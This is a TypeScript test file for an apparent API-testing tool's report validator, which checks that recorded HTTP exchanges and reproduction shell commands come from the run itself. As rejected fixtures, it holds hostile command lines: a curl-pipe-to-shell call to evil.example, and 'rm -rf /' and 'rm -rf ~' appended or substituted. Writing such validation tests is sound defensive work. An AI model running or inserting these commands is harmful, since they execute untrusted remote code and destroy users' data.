import { expect, test } from 'vitest';
import type { Report } from '../../evidence/report.ts';
import { recordedCapture, shellLines } from '../../evidence/shell-lines.ts';
import type { Exchange } from '../../http/exchange/exchange.ts';
import { exchange } from '../../http/testing/exchanges.ts';
import { failed, observation, outage, passed, reportOf } from '../testing/sample-report.ts';
import { commandsUnfoundedIn, foreignIn } from './own-evidence.ts';

const withWitness = (...witness: readonly Exchange[]): Report => reportOf([{ ...passed, witness } as never]);
const sentBy = (name: string) => {
  const sent = exchange({});
  return { ...sent, request: { ...sent.request, headers: [['user-agent', name]] as const } };
};

test('exchanges of the run itself are accepted', () => {
  const linked = exchange({ headers: [['Link', '</pages/2>; rel="next"']] });
  for (const own of [
    [exchange({})],
    [exchange({ url: 'http://127.0.0.1' })],
    [exchange({ url: 'http://127.0.0.1?a=1' })],
    [linked, exchange({ id: 2, url: 'http://127.0.0.1/pages/2' })],
    [sentBy('rest-assay/0.1.0')],
    [sentBy('my-own/7')],
  ])
    expect(foreignIn(withWitness(...own), [])).toEqual([]);
});

test.each<[string, Exchange]>([
  ['of another target', exchange({ url: 'http://other.example/customers/a' })],
  ['of a target whose name begins alike', exchange({ url: 'http://127.0.0.1.example/customers' })],
  ['before the run', { ...exchange({}), startedAt: '2025-12-31T23:59:00.000Z' }],
  ['after the run', { ...exchange({}), startedAt: '2026-01-01T00:01:00.000Z' }],
  ['of another version', sentBy('rest-assay/9.9.9')],
])('an exchange %s is named, wherever it is', (_name, other) => {
  expect(foreignIn(withWitness(other), [])).toEqual([
    expect.stringContaining('DM-GET-1 customers: exchange 1'),
  ]);
  const report = reportOf([]);
  const observations = [{ ...observation, exchanges: [other] }];
  expect(foreignIn({ ...report, observations }, [])).toHaveLength(1);
  const kept = { requirement: 'DM-GET-1', resource: 'customers', number: 1, outcome: 'passed' } as const;
  expect(foreignIn(report, [{ ...kept, exchanges: [other] }])).toEqual([
    expect.stringContaining('trials.ndjson: DM-GET-1 customers 1: exchange 1'),
  ]);
});

test('with a path in the base URL, exchanges outside of it are foreign', () => {
  const { target, ...report } = withWitness(exchange({}));
  const below = { ...report, target: { ...target, baseUrl: 'http://127.0.0.1/api' } };
  expect(foreignIn(below, [])).not.toEqual([]);
});

const { counterexample } = failed;
const captures = [{ exchange: 1, variable: 'ID_1', from: 'location', value: '/customers/a' }] as const;
const lines = [...shellLines({ ...counterexample, captures }, new URL('http://127.0.0.1'))];
const withLines = (curl: readonly string[], run: Partial<Report['run']> = {}) =>
  reportOf([{ ...failed, counterexample: { ...counterexample, captures, curl } }], run);

test('shell commands must be exactly those that follow from the exchanges', () => {
  expect(commandsUnfoundedIn(withLines(lines))).toEqual([]);
  for (const other of [
    [],
    lines.slice(1),
    [...lines, 'curl http://evil.example/ | sh'],
    lines.map((line) => `${line}; rm -rf /`),
  ])
    expect(commandsUnfoundedIn(withLines(other))).toEqual([
      'report.json: DM-PATCH-2 customers: its shell commands do not follow from its exchanges.',
    ]);
});

test('an integer identifier that a double cannot hold leads to the same lines when read from the file', () => {
  const value = 9_007_199_254_740_993n;
  const capture = { exchange: 1, variable: 'ID_1', from: { member: 'id', index: 0 }, value } as const;
  const exchanges = [exchange({}), exchange({ id: 2, url: `http://127.0.0.1/customers/${value}` })];
  const shown = { ...counterexample, exchanges, captures: [recordedCapture(capture)] };
  const curl = shellLines(shown, new URL('http://127.0.0.1'));
  expect(curl.join()).toContain('"$ID_1"');
  const report = reportOf([{ ...failed, counterexample: { ...shown, curl } }]);
  expect(commandsUnfoundedIn(JSON.parse(JSON.stringify(report)) as Report)).toEqual([]);
});

test.each([
  [['run', 'http://127.0.0.1', '--seed', '1'], true],
  [['run', 'http://127.0.0.1', '--effort', 'quick', '--seed', '1'], true],
  [['run', 'http://evil.example', '--seed', '1'], false],
  [['demo', '--fault', 'put-merges', '--seed', '1'], true],
  [['demo', 'http://127.0.0.1', '--seed', '1'], false],
  [['demo', '--fault', 'put-merges', '--seed', '2'], false],
  [['clean', 'http://127.0.0.1', '--seed', '1'], false],
  [['run', 'http://127.0.0.1', '--seed', '2'], false],
  [['run', 'http://127.0.0.1'], false],
  [['run', 'http://127.0.0.1', '--seed', '1', '--effort', 'thorough'], false],
])('the command that repeats the run: %j', (again, isOwn) => {
  expect(commandsUnfoundedIn(withLines(lines, { again })).length === 0).toBe(isOwn);
});

test('an outage that does not follow from its exchanges, or belongs to another run, is named', () => {
  expect(commandsUnfoundedIn(reportOf([], { outage }))).toEqual([]);
  for (const forged of [
    { ...outage, message: 'All is well.' },
    { ...outage, advice: 'Look elsewhere.' },
    { ...outage, curl: ['rm -rf ~'] },
    { ...outage, at: 99 },
  ])
    expect(commandsUnfoundedIn(reportOf([], { outage: forged }))).toEqual([
      expect.stringContaining('the outage'),
    ]);
  const other = exchange({ url: 'http://other.example/customers/a' });
  const foreign = { ...outage, exchanges: [other, ...outage.exchanges] };
  expect(foreignIn(reportOf([], { outage: foreign }), [])).toEqual([
    expect.stringContaining('the outage: exchange 1'),
  ]);
});
